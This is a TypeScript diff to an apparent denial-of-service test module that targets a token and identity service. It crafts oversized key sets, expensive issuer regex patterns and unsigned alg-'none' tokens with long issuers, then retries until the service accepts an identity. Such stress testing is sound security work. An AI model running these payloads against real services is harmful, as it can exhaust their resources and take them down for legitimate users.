@@ -19,27 +19,28 @@ interface State {
 
 export const attack: Attack<State> = {
   async prepare(target) {
-    const keys = JSON.stringify({ keys: Array.from({ length: 2_000 }, () => ({ kty: "RSA", n: "AQ", e: "Aw" })) });
-    const points = JSON.stringify({
-      keys: Array.from({ length: 500 }, (_, i) => ({
-        kty: "EC",
-        crv: "P-256",
-        x: Buffer.alloc(32, i).toString("base64url"),
-        y: Buffer.alloc(32, i + 1).toString("base64url"),
-      })),
-    });
     const expirationTime = new Date(Date.now() + YEAR_MS).toISOString();
-    const staticKeys = (issuerKeys: string) => ({
-      staticKeys: { issuer: ISSUER, subject: "x", issuerKeys: issuerKeys.slice(0, MAX_KEYS_BYTES), expirationTime },
-    });
-    const plain = unsignedToken({ iss: ISSUER, sub: "x", aud: target.url });
+    const staticKeys = (key: (i: number) => object, count: number) => {
+      const issuerKeys = keysWithin(JSON.stringify({ keys: Array.from({ length: count }, (_, i) => key(i)) }));
+      return { staticKeys: { issuer: ISSUER, subject: "x", issuerKeys, expirationTime } };
+    };
+    const short = () => ({ kty: "RSA", n: "AQ", e: "Aw" });
+    const point = (i: number) => {
+      const [x, y] = [i, i + 1].map((byte) => Buffer.alloc(32, byte).toString("base64url"));
+      return { kty: "EC", crv: "P-256", x, y };
+    };
+    const modulus = (i: number) => ({ kty: "RSA", n: Buffer.alloc(1_024, i | 129).toString("base64url"), e: "AQAB" });
+    const keys = [short, point, modulus].map((key) => [2_000, 500, 45, 32, 16].map((count) => staticKeys(key, count)));
+    const patterns = [105, 70, 35, 15, 5].map((width) => ({
+      claimMatch: { issuerPattern: costlyPattern(width), subject: "x" },
+    }));
+    const plain = unsignedToken({ iss: ISSUER, sub: "x", aud: target.url }, "none");
     const long = `${ISSUER}/${"a".repeat(1_000)}`;
-    const patterned = { claimMatch: { issuerPattern: costlyPattern(), subject: "x" } };
+    const patterned = (issuer: string) => unsignedToken({ iss: issuer, sub: "x", aud: target.url });
     const pairs = [
-      ...(await pairOf(target, staticKeys(keysWithin(keys)), plain)),
-      ...(await pairOf(target, staticKeys(keysWithin(points)), plain)),
-      ...(await pairOf(target, patterned, unsignedToken({ iss: long, sub: "x", aud: target.url }))),
-      ...(await pairOf(target, patterned, unsignedToken({ iss: long.slice(0, 255), sub: "x", aud: target.url }))),
+      ...(await Promise.all(keys.map((candidates) => pairOf(target, candidates, plain)))).flat(),
+      ...(await pairOf(target, patterns, patterned(long))),
+      ...(await pairOf(target, patterns, patterned(long.slice(0, 255)))),
     ];
     return { pairs };
   },
@@ -60,10 +61,13 @@ export const attack: Attack<State> = {
   },
 };
 
-// What the service refuses to store cannot be attacked with.
-async function pairOf(target: Target, relationship: object, token: string) {
-  const identity = await createIdentity(target.url, target, { name: "dear", ...relationship }).catch(() => undefined);
-  return identity === undefined ? [] : [{ identity, token }];
+// What the service refuses to store cannot be attacked with: the dearest that it takes.
+async function pairOf(target: Target, candidates: readonly object[], token: string) {
+  for (const relationship of candidates) {
+    const identity = await createIdentity(target.url, target, { name: "dear", ...relationship }).catch(() => undefined);
+    if (identity !== undefined) return [{ identity, token }];
+  }
+  return [];
 }
 
 // As many whole entries as fit.
@@ -73,7 +77,7 @@ function keysWithin(json: string): string {
   return `${json.slice(0, end)}}]}`;
 }
 
-// Close to the largest program that is allowed; nothing it is held against matches.
-function costlyPattern(): string {
-  return `https://junk\\.example/${".{0,105}".repeat(4)}x`;
+// With 105 it is close to the largest program there ever was; nothing it is held against matches.
+function costlyPattern(width: number): string {
+  return `https://junk\\.example/${`.{0,${width}}`.repeat(4)}x`;
 }
